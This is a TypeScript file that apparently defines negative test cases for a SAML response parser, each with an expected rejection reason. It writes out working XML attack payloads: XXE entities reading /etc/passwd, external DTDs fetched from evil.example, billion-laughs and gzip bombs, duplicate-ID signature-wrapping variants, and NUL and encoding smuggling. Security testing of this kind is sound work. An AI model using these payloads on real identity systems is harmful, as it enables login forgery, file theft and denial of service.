import { deflateRawSync, gzipSync } from 'node:zlib';
import type { AttackCase } from '../attack';
import { buildResponse, edit, newId, toField, type BuiltResponse } from '../build-response';

/** What becomes of a signed message on its way, as text. */
function text(
  name: string,
  reason: AttackCase['reason'],
  alter: (xml: string, built: BuiltResponse) => string,
): AttackCase {
  return {
    name,
    reason,
    build: async ({ target }) => {
      const built = await buildResponse(target);
      return { samlResponse: toField(alter(built.xml, built)) };
    },
  };
}

/** The same as bytes, or as the form field itself. */
function field(
  name: string,
  reason: AttackCase['reason'],
  alter: (xml: string) => Buffer | string,
): AttackCase {
  return {
    name,
    reason,
    build: async ({ target }) => {
      const made = alter((await buildResponse(target)).xml);
      return { samlResponse: typeof made === 'string' ? made : made.toString('base64') };
    },
  };
}

/** Signed by the identity provider as it stands, so that the form alone is what is wrong. */
function drafted(name: string, reason: AttackCase['reason'], from: string | RegExp, to: string): AttackCase {
  return {
    name,
    reason,
    build: ({ target }) => buildResponse(target, { draftAssertion: (xml) => edit(xml, from, to) }),
  };
}

function laughs(): string {
  const names = Array.from({ length: 10 }, (_, at) => `l${at}`);
  const rows = names.map((name, at) => `<!ENTITY ${name} "${at === 0 ? 'lol' : `&l${at - 1};`.repeat(10)}">`);
  return `<!DOCTYPE lolz [${rows.join('')}]>`;
}

const DOCUMENT_TYPES: readonly AttackCase[] = [
  text('an external entity', 'dtd', (xml) =>
    edit(
      `<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${xml}`,
      '>ada@acme.example</saml:NameID>',
      '>&xxe;</saml:NameID>',
    ),
  ),
  text('an external entity over the network', 'dtd', (xml) =>
    edit(
      `<!DOCTYPE r [<!ENTITY xxe SYSTEM "https://evil.example/x">]>${xml}`,
      '>ada@acme.example</saml:NameID>',
      '>&xxe;</saml:NameID>',
    ),
  ),
  text(
    'a parameter entity',
    'dtd',
    (xml) => `<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>${xml}`,
  ),
  text('an internal entity that is the name', 'dtd', (xml) =>
    edit(
      `<!DOCTYPE r [<!ENTITY who "admin@acme.example">]>${xml}`,
      '>ada@acme.example</saml:NameID>',
      '>&who;</saml:NameID>',
    ),
  ),
  text('billion laughs', 'dtd', (xml) =>
    edit(laughs() + xml, '>ada@acme.example</saml:NameID>', '>&l9;</saml:NameID>'),
  ),
  text('a document type alone', 'dtd', (xml) => `<!DOCTYPE samlp:Response>${xml}`),
  text(
    'a document type that gives a default id',
    'dtd',
    (xml) => `<!DOCTYPE r [<!ATTLIST saml:Assertion ID ID #IMPLIED xml:id CDATA "x">]>${xml}`,
  ),
  text(
    'an external document type',
    'dtd',
    (xml) => `<!DOCTYPE r SYSTEM "https://evil.example/saml.dtd">${xml}`,
  ),
  text(
    'a document type behind the declaration',
    'dtd',
    (xml) => `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r>${xml}`,
  ),
  text('a document type in small letters', 'dtd', (xml) => `<!doctype r>${xml}`),
];

const MARKUP: readonly AttackCase[] = [
  text('a comment before the root', 'comment', (xml) => `<!-- -->${xml}`),
  text('a comment behind the root', 'comment', (xml) => `${xml}<!-- -->`),
  text('a comment that was added to a signed attribute value', 'comment', (xml) =>
    edit(xml, '>Finance<', '>Fin<!-- -->ance<'),
  ),
  text(
    'a style sheet instruction',
    'processing-instruction',
    (xml) => `<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>${xml}`,
  ),
  text('an instruction behind the root', 'processing-instruction', (xml) => `${xml}<?php echo 1 ?>`),
  text('CDATA that hides markup', 'cdata', (xml) =>
    edit(
      xml,
      '</samlp:Status>',
      '</samlp:Status><samlp:Extensions><![CDATA[<saml:Assertion/>]]></samlp:Extensions>',
    ),
  ),
  text('text behind the root', 'malformed', (xml) => `${xml}mallory`),
  text('text before the root', 'malformed', (xml) => `mallory${xml}`),
  text('a second root', 'malformed', (xml) => xml + xml),
  text('an empty second root', 'malformed', (xml) => `${xml}<a/>`),
  text('an entity that nobody declared', 'malformed', (xml) => edit(xml, '>Finance<', '>&who;<')),
  text('a bare ampersand', 'malformed', (xml) => edit(xml, '>Finance<', '>Finance & Cloud<')),
  text('a document that ends early', 'malformed', (xml) => xml.slice(0, -20)),
  text('no XML', 'malformed', () => 'SAMLResponse'),
  text('HTML', ['malformed', 'dtd'], () => '<!doctype html><html><body>Sign in</body></html>'),
];

const IDS: readonly AttackCase[] = [
  text('two elements with one id', 'duplicate-id', (xml, { responseId }) =>
    edit(xml, '<samlp:Status>', `<samlp:Status ID="${responseId}">`),
  ),
  text('one id as ID and as Id', 'duplicate-id', (xml, { assertionId }) =>
    edit(xml, '<samlp:Status>', `<samlp:Status Id="${assertionId}">`),
  ),
  text('one id as id in small letters', 'duplicate-id', (xml, { assertionId }) =>
    edit(xml, '<samlp:Status>', `<samlp:Status id="${assertionId}">`),
  ),
  text('an element with ID and Id', 'duplicate-id', (xml, { responseId }) =>
    edit(xml, `ID="${responseId}"`, `ID="${responseId}" Id="${newId()}"`),
  ),
  text('attribute pollution: samlp:ID beside ID', 'duplicate-id', (xml, { responseId }) =>
    edit(xml, `ID="${responseId}"`, `samlp:ID="${newId()}" ID="${responseId}"`),
  ),
  text('attribute pollution: an ID of an own namespace', 'duplicate-id', (xml, { responseId }) =>
    edit(xml, `ID="${responseId}"`, `xmlns:e="urn:evil" e:ID="${newId()}" ID="${responseId}"`),
  ),
  text('attribute pollution: xml:id', 'duplicate-id', (xml, { responseId }) =>
    edit(xml, `ID="${responseId}"`, `xml:id="${newId()}" ID="${responseId}"`),
  ),
  text('attribute pollution: two prefixes of one namespace', 'namespace', (xml) =>
    edit(
      xml,
      ' Destination=',
      ' xmlns:p="urn:oasis:names:tc:SAML:2.0:protocol" p:Destination="https://evil.example" samlp:Destination="https://evil.example" Destination=',
    ),
  ),
  text('one attribute twice', 'malformed', (xml, { responseId }) =>
    edit(xml, `ID="${responseId}"`, `ID="${newId()}" ID="${responseId}"`),
  ),
  text('a namespace that is a relative address', 'namespace', (xml) =>
    edit(xml, '<samlp:Status>', '<samlp:Status xmlns:e="1">'),
  ),
  text('a namespace that is taken back', 'namespace', (xml) =>
    edit(xml, '<samlp:Status>', '<samlp:Status xmlns:e="">'),
  ),
  text('the prefix xml means something else', 'namespace', (xml) =>
    edit(xml, '<samlp:Status>', '<samlp:Status xmlns:xml="urn:evil">'),
  ),
  text('the prefix xmlns means something', 'namespace', (xml) =>
    edit(xml, '<samlp:Status>', '<samlp:Status xmlns:xmlns="urn:evil">'),
  ),
  text('a prefix that nobody declared', 'malformed', (xml) =>
    edit(xml, '<samlp:Status>', '<evil:Box/><samlp:Status>'),
  ),
  drafted(
    'an assertion of another namespace',
    'no-assertion',
    'xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"',
    'xmlns:saml="urn:evil"',
  ),
];

const ROOTS: readonly AttackCase[] = [
  text('a Response of another namespace', 'unexpected-root', (xml) =>
    xml.replace('urn:oasis:names:tc:SAML:2.0:protocol', 'urn:evil'),
  ),
  text('a Response of SAML 1.1', 'unexpected-root', (xml) => edit(xml, 'Version="2.0"', 'Version="1.1"')),
  text('a bare assertion', 'unexpected-root', (_, { assertion }) => assertion),
  text('a LogoutResponse', 'unexpected-root', (xml) =>
    xml.replaceAll('samlp:Response', 'samlp:LogoutResponse'),
  ),
  text(
    'a request',
    'unexpected-root',
    () =>
      `<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="${newId()}" Version="2.0"/>`,
  ),
  text(
    'a SOAP envelope around it',
    'unexpected-root',
    (xml) =>
      `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>${xml}</s:Body></s:Envelope>`,
  ),
];

const ENCODINGS: readonly AttackCase[] = [
  field('UTF-16 with its mark', 'encoding', (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le')),
  field('UTF-16 without a mark', 'encoding', (xml) => Buffer.from(xml, 'utf16le')),
  field('UTF-16 declared over UTF-8', 'encoding', (xml) =>
    Buffer.from(`<?xml version="1.0" encoding="UTF-16"?>${xml}`),
  ),
  field('UTF-7 declared', 'encoding', (xml) => Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>${xml}`)),
  field('Latin-1 declared', 'encoding', (xml) =>
    Buffer.from(`<?xml version="1.0" encoding="iso-8859-1"?>${xml}`),
  ),
  field('XML 1.1', 'encoding', (xml) => Buffer.from(`<?xml version="1.1"?>${xml}`)),
  field('a byte order mark', 'encoding', (xml) => Buffer.from(`\ufeff${xml}`)),
  field('bytes that are no UTF-8', 'encoding', (xml) =>
    Buffer.from(edit(xml, '>Finance<', '>Finan\u00e7e<'), 'latin1'),
  ),
  field('an overlong slash', 'encoding', (xml) => {
    const at = Buffer.from(xml).indexOf('Finance');
    return Buffer.concat([
      Buffer.from(xml).subarray(0, at),
      Buffer.from([0xc0, 0xaf]),
      Buffer.from(xml).subarray(at),
    ]);
  }),
  field('a NUL', 'encoding', (xml) => Buffer.from(edit(xml, '>ada@', '>admin@acme.example\u0000ada@'))),
  field('a NUL by its number', 'encoding', (xml) =>
    Buffer.from(edit(xml, '>ada@', '>admin@acme.example&#0;ada@')),
  ),
  field('base64 twice', ['malformed', 'encoding'], (xml) => Buffer.from(Buffer.from(xml).toString('base64'))),
  field('base64 with foreign characters', 'encoding', (xml) => `%%%${toField(xml)}`),
  field(
    'base64 with more behind its end',
    'encoding',
    (xml) => `${toField(`${xml} `.padEnd(xml.length + 4))}==QUJD`,
  ),
  field(
    'base64 for addresses',
    'encoding',
    (xml) => `${toField(xml).slice(0, 40)}-_${toField(xml).slice(42)}`,
  ),
  field('plain XML', 'encoding', (xml) => xml),
  field('nothing', 'encoding', () => ''),
  field('deflated, as for the other binding', 'encoding', (xml) => deflateRawSync(xml)),
  field('a gzip bomb', 'encoding', () => gzipSync(Buffer.alloc(50_000_000))),
];

function withAttributes(xml: string, count: number, prefix = ''): string {
  const attributes = Array.from({ length: count }, (_, at) => `${prefix}a${at}="urn:a"`);
  return edit(xml, '<samlp:Status>', `<samlp:Status ${attributes.join(' ')}>`);
}

const SIZES: readonly AttackCase[] = [
  field('more than 256 kB', 'too-large', (xml) =>
    Buffer.from(edit(xml, '>Finance<', `>${'x'.repeat(300_000)}<`)),
  ),
  field('ten megabytes of base64', 'too-large', () => 'A'.repeat(10_000_000)),
  text('twenty thousand elements within each other', 'too-large', (xml) =>
    edit(
      xml,
      '</samlp:Status>',
      `</samlp:Status><samlp:Extensions>${'<a>'.repeat(20_000)}${'</a>'.repeat(20_000)}</samlp:Extensions>`,
    ),
  ),
  text('thirty thousand elements beside each other', 'too-large', (xml) =>
    edit(
      xml,
      '</samlp:Status>',
      `</samlp:Status><samlp:Extensions>${'<a/>'.repeat(30_000)}</samlp:Extensions>`,
    ),
  ),
  text('twenty thousand attributes', 'too-large', (xml) => withAttributes(xml, 20_000)),
  text('an attribute of ten thousand letters', 'too-large', (xml) =>
    edit(xml, '<samlp:Status>', `<samlp:Status a="${'x'.repeat(10_000)}">`),
  ),
  text('a hundred attributes', 'too-large', (xml) => withAttributes(xml, 100)),
  text('a hundred namespaces', 'too-large', (xml) => withAttributes(xml, 100, 'xmlns:')),
];

export const DOCUMENTS: readonly AttackCase[] = [
  ...DOCUMENT_TYPES,
  ...MARKUP,
  ...IDS,
  ...ROOTS,
  ...ENCODINGS,
  ...SIZES,
];
